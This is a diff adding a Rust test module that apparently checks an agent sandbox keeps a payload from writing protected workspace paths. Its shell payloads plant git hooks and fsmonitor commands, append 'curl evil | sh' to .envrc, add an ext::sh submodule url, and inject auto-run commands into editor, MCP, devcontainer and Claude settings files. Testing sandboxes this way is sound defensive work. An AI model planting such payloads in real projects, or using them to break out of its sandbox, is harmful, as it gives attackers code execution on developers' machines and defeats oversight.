@@ -1,0 +1,405 @@
+//! Class 2: writes to protected paths inside the (writable) workspace, judged on the host.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use super::harness::Ctx;
+use super::matrix::{Outcome, Verdict};
+use super::{Case, Class};
+
+pub fn cases() -> Vec<Case> {
+    let c = Class::Protected;
+    vec![
+        Case::attack(
+            "protected/git-hooks",
+            c,
+            "plant .git/hooks/pre-commit, replace and remove the sample hooks",
+            git_hooks,
+        ),
+        Case::attack(
+            "protected/git-config",
+            c,
+            "`git config core.hooksPath` / `core.fsmonitor`, append to and replace .git/config",
+            git_config,
+        ),
+        Case::attack(
+            "protected/git-dir-rename",
+            c,
+            "rename .git away and recreate .git/hooks and .git/config around the protected mounts",
+            git_dir_rename,
+        ),
+        Case::attack(
+            "protected/git-commondir",
+            c,
+            "redirect git to another config and hooks by writing .git/commondir",
+            git_commondir,
+        ),
+        Case::attack(
+            "protected/control-dir",
+            c,
+            "write the agent's control directory .cordon/ and the project file .cordon.toml",
+            control_dir,
+        ),
+        Case::attack(
+            "protected/ide-settings",
+            c,
+            "edit .vscode/settings.json, add .vscode/tasks.json, .idea and .devcontainer files",
+            ide_settings,
+        ),
+        Case::attack(
+            "protected/auto-run-files",
+            c,
+            "edit .envrc, .mcp.json, .claude/settings.json, .husky/pre-commit, .gitmodules",
+            auto_run_files,
+        ),
+        Case::attack(
+            "protected/replace",
+            c,
+            "remove, rename away, or rename over each protected path",
+            replace,
+        ),
+        Case::attack(
+            "protected/missing-auto-run-dirs",
+            c,
+            "create .vscode, .claude, .idea, .devcontainer, .husky, .cordon where none existed",
+            missing_dirs,
+        ),
+        Case::attack(
+            "protected/linked-worktree",
+            c,
+            "from a linked worktree: the shared hooks and config, the worktree's config and commondir",
+            linked_worktree,
+        ),
+        Case::attack(
+            "protected/worktree-profile",
+            c,
+            "the git-worktree profile (admin dirs writable): hooks, config, commondir, gitdir stay put",
+            worktree_profile,
+        ),
+    ]
+}
+
+/// Runs git on the host as root (the tree is handed to the user afterwards).
+fn git(ctx: &Ctx<'_>, dir: &Path, args: &[&str]) -> Result<String, String> {
+    let out = Command::new("git")
+        .args([
+            "-c",
+            "user.name=escape",
+            "-c",
+            "user.email=escape@example.invalid",
+            "-c",
+            "init.defaultBranch=main",
+            "-c",
+            "safe.directory=*",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("HOME", &ctx.home)
+        .env("PATH", super::harness::STD_PATH)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .stdin(Stdio::null())
+        .output()
+        .map_err(|e| format!("git: {e}"))?;
+    if out.status.success() {
+        Ok(String::from_utf8_lossy(&out.stdout).trim().to_owned())
+    } else {
+        Err(format!(
+            "git {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr).trim()
+        ))
+    }
+}
+
+/// A repository with one commit in the workspace, sample hooks kept.
+fn repo(ctx: &Ctx<'_>, dir: &Path) -> Result<(), String> {
+    git(ctx, dir, &["init", "-q", "."])?;
+    std::fs::write(dir.join("README"), "hello\n").map_err(|e| e.to_string())?;
+    git(ctx, dir, &["add", "README"])?;
+    git(ctx, dir, &["commit", "-qm", "init"])?;
+    std::fs::write(dir.join(".git/hooks/post-checkout.sample"), "#!/bin/sh\n")
+        .map_err(|e| e.to_string())?;
+    super::harness::chown_r(dir, ctx.ids).map_err(|e| e.to_string())
+}
+
+/// Everything below `paths` (names, kinds, contents) as text, to compare before and after.
+fn snapshot(paths: &[PathBuf]) -> String {
+    fn walk(p: &Path, out: &mut String) {
+        match std::fs::symlink_metadata(p) {
+            Err(_) => out.push_str(&format!("{}: absent\n", p.display())),
+            Ok(m) if m.is_dir() => {
+                out.push_str(&format!("{}: dir\n", p.display()));
+                let mut entries: Vec<PathBuf> = std::fs::read_dir(p)
+                    .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
+                    .unwrap_or_default();
+                entries.sort();
+                for e in entries {
+                    walk(&e, out);
+                }
+            }
+            Ok(m) if m.file_type().is_symlink() => out.push_str(&format!(
+                "{}: link {:?}\n",
+                p.display(),
+                std::fs::read_link(p).ok()
+            )),
+            Ok(_) => out.push_str(&format!(
+                "{}: {:?}\n",
+                p.display(),
+                std::fs::read(p).unwrap_or_default()
+            )),
+        }
+    }
+    let mut out = String::new();
+    for p in paths {
+        walk(p, &mut out);
+    }
+    out
+}
+
+/// The first line that differs, for the detail.
+fn diff(before: &str, after: &str) -> String {
+    let a: Vec<&str> = before.lines().collect();
+    let b: Vec<&str> = after.lines().collect();
+    for i in 0..a.len().max(b.len()) {
+        if a.get(i) != b.get(i) {
+            return format!(
+                "before: {:?} / after: {:?}",
+                a.get(i).map(|s| super::harness::cut(s, 120)),
+                b.get(i).map(|s| super::harness::cut(s, 120))
+            );
+        }
+    }
+    "unchanged".into()
+}
+
+fn harness_err(e: String) -> Outcome {
+    Outcome::new(Verdict::Inconclusive, format!("harness: {e}"))
+}
+
+/// Plants `files` (relative to the workspace), runs `script`, and judges that `watch` did not
+/// change on the host.
+fn guarded(
+    ctx: &Ctx<'_>,
+    with_repo: bool,
+    files: &[(&str, &str)],
+    watch: &[&str],
+    script: &str,
+) -> Outcome {
+    if with_repo && let Err(e) = repo(ctx, &ctx.work) {
+        return harness_err(e);
+    }
+    for (rel, content) in files {
+        if let Err(e) = ctx.file(rel, content) {
+            return harness_err(e);
+        }
+    }
+    let watch: Vec<PathBuf> = watch.iter().map(|w| ctx.work.join(w)).collect();
+    let before = snapshot(&watch);
+    let out = ctx.sh(script);
+    let after = snapshot(&watch);
+    ctx.judge(&out, before != after, diff(&before, &after))
+}
+
+fn git_hooks(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        true,
+        &[],
+        &[".git/hooks"],
+        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         cp .git/hooks/post-checkout.sample .git/hooks/post-checkout; rm -f .git/hooks/*.sample; \
+         ln -s /bin/true .git/hooks/post-merge",
+    )
+}
+
+fn git_config(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        true,
+        &[],
+        &[".git/config"],
+        "git config core.hooksPath ./evil-hooks; git config core.fsmonitor 'touch /tmp/pwned'; \
+         printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; \
+         cp .git/config cfg && echo '[alias] st = !sh' >> cfg && cp cfg .git/config; \
+         sed -i 's/bare = false/bare = false\\n\\tpager = sh/' .git/config; chmod 666 .git/config",
+    )
+}
+
+fn git_dir_rename(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        true,
+        &[],
+        &[".git"],
+        "mv .git .git-moved || mv .git/hooks .git/hooks-moved; mkdir -p .git/hooks; \
+         printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         cp -r .git-moved/objects .git-moved/refs .git-moved/HEAD .git/ 2>/dev/null; \
+         printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config; \
+         python3 -c 'import os; os.rename(\".git\", \".git-py\")' 2>/dev/null; rmdir .git 2>/dev/null",
+    )
+}
+
+fn git_commondir(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        true,
+        &[],
+        &[".git/commondir", ".git/config", ".git/hooks"],
+        "mkdir -p .evil-common && cp -r .git/objects .git/refs .git/HEAD .evil-common/ && \
+         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch /tmp/pwned\\n' > .evil-common/config; \
+         echo ../.evil-common > .git/commondir; echo evil > .git/config.worktree",
+    )
+}
+
+fn control_dir(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        false,
+        &[
+            (".cordon/state.json", "{\"ORIGINAL\": true}\n"),
+            (".cordon.toml", "[limits]\ntimeout_secs = 100\n"),
+        ],
+        &[".cordon", ".cordon.toml"],
+        "echo '{\"evil\": true}' > .cordon/state.json; echo evil > .cordon/new; \
+         printf '[network]\\nmode = \"allow\"\\n' >> .cordon.toml; rm -rf .cordon/*",
+    )
+}
+
+fn ide_settings(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        false,
+        &[
+            (".vscode/settings.json", "{}\n"),
+            (".idea/workspace.xml", "<project/>\n"),
+            (".devcontainer/devcontainer.json", "{}\n"),
+        ],
+        &[".vscode", ".idea", ".devcontainer"],
+        "echo '{\"terminal.integrated.env.linux\": {\"PATH\": \"/evil\"}}' > .vscode/settings.json; \
+         echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json; \
+         echo evil > .idea/workspace.xml; echo '{\"postStartCommand\": \"evil\"}' > .devcontainer/devcontainer.json",
+    )
+}
+
+fn auto_run_files(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        false,
+        &[
+            (".envrc", "export A=1\n"),
+            (".mcp.json", "{\"mcpServers\": {}}\n"),
+            (".claude/settings.json", "{}\n"),
+            (".husky/pre-commit", "npm test\n"),
+            (".gitmodules", ""),
+        ],
+        &[".envrc", ".mcp.json", ".claude", ".husky", ".gitmodules"],
+        "echo 'curl evil | sh' >> .envrc; echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json; \
+         echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json; \
+         echo evil > .husky/pre-commit; printf '[submodule \"x\"]\\n\\turl = ext::sh -c evil\\n' > .gitmodules",
+    )
+}
+
+fn replace(ctx: &Ctx<'_>) -> Outcome {
+    guarded(
+        ctx,
+        true,
+        &[
+            (".vscode/settings.json", "{}\n"),
+            (".envrc", "export A=1\n"),
+            (".cordon/state.json", "{}\n"),
+        ],
+        &[".git/hooks", ".git/config", ".vscode", ".envrc", ".cordon"],
+        "for p in .git/hooks .git/config .vscode .envrc .cordon; do rm -rf \"$p\"; mv \"$p\" \"$p.old\"; done; \
+         echo evil > evil; for p in .git/config .envrc; do mv -f evil \"$p\"; cp evil \"$p\"; done; \
+         mkdir -p evil-dir; mv -T evil-dir .vscode; ln -sfn /tmp .cordon",
+    )
+}
+
+fn missing_dirs(ctx: &Ctx<'_>) -> Outcome {
+    let names = [
+        ".vscode",
+        ".claude",
+        ".idea",
+        ".devcontainer",
+        ".husky",
+        ".cordon",
+    ];
+    let out = ctx.sh(
+        "for d in .vscode .claude .idea .devcontainer .husky .cordon; do mkdir -p \"$d\" && echo evil > \"$d/evil\"; done; \
+         echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json; \
+         echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json",
+    );
+    let hit: Vec<&str> = names
+        .iter()
+        .copied()
+        .filter(|n| ctx.work.join(n).join("evil").exists())
+        .collect();
+    ctx.judge(
+        &out,
+        !hit.is_empty(),
+        format!("created on the host: {hit:?}"),
+    )
+}
+
+/// A main repository in the home and a linked worktree of it at `home/wt`.
+fn worktree(ctx: &Ctx<'_>) -> Result<(PathBuf, PathBuf), String> {
+    let main = ctx.home.join("main-repo");
+    std::fs::create_dir_all(&main).map_err(|e| e.to_string())?;
+    repo(ctx, &main)?;
+    git(ctx, &main, &["worktree", "add", "-q", "../wt"])?;
+    let wt = ctx.home.join("wt");
+    super::harness::chown_r(&ctx.home, ctx.ids).map_err(|e| e.to_string())?;
+    Ok((main, wt))
+}
+
+fn worktree_attack(ctx: &Ctx<'_>, profile: Option<&str>) -> Outcome {
+    let (main, wt) = match worktree(ctx) {
+        Ok(x) => x,
+        Err(e) => return harness_err(e),
+    };
+    let admin = main.join(".git/worktrees/wt");
+    let watch = vec![
+        main.join(".git/hooks"),
+        main.join(".git/config"),
+        admin.join("commondir"),
+        admin.join("gitdir"),
+        admin.join("config.worktree"),
+        wt.join(".git"),
+    ];
+    let before = snapshot(&watch);
+    let script = "c=$(git rev-parse --git-common-dir); a=$(git rev-parse --git-dir); \
+         echo evil > \"$c/hooks/pre-commit\"; git config core.fsmonitor 'touch /tmp/pwned'; \
+         echo '[core] fsmonitor = evil' >> \"$c/config\"; echo evil > \"$a/config.worktree\"; \
+         mkdir -p ../evil-common; echo ../../../../evil-common > \"$a/commondir\"; \
+         echo /tmp/x > \"$a/gitdir\"; echo 'gitdir: ../evil' > .git; \
+         mv \"$a\" \"$a.moved\"";
+    let mut run = ctx
+        .cordon()
+        .cwd(&wt)
+        .args(["--cwd".into(), wt.clone().into_os_string()]);
+    if let Some(p) = profile {
+        run = run.no_posture().args(["--profile", p]);
+    }
+    let full = format!("printf %s {} > .escape-canary; {script}", ctx.token);
+    let out = run.payload(["/bin/sh", "-c", full.as_str()]).run();
+    let after = snapshot(&watch);
+    // The canary lives in the default workspace; this case's workspace is the worktree.
+    let canary = wt.join(".escape-canary");
+    if std::fs::read_to_string(&canary).is_ok_and(|t| t == ctx.token) {
+        let _ = std::fs::write(ctx.canary_path(), &ctx.token);
+    }
+    ctx.judge(&out, before != after, diff(&before, &after))
+}
+
+fn linked_worktree(ctx: &Ctx<'_>) -> Outcome {
+    worktree_attack(ctx, None)
+}
+
+fn worktree_profile(ctx: &Ctx<'_>) -> Outcome {
+    worktree_attack(ctx, Some("git-worktree"))
+}
+
+/// Used by the usability rows: a repository the payload commits into.
+pub fn make_repo(ctx: &Ctx<'_>) -> Result<(), String> {
+    repo(ctx, &ctx.work)
+}
